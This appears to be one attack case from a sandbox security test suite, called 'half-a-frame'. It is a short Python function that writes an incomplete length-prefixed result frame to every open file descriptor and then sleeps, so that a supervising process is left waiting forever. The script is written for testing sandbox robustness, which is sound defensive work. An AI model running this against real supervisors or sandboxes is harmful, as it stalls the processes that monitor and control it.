# attack: half-a-frame
# layer: os (assumes the language layer is already broken: run as plain Python)
# class: result
# success: a frame that never ends: its supervisor waits
import os, struct, time
def run():
    for descriptor in range(3, 64):
        try:
            os.write(descriptor, struct.pack(">cI", b"R", 1000) + b"1")
        except OSError:
            pass
    time.sleep(60)
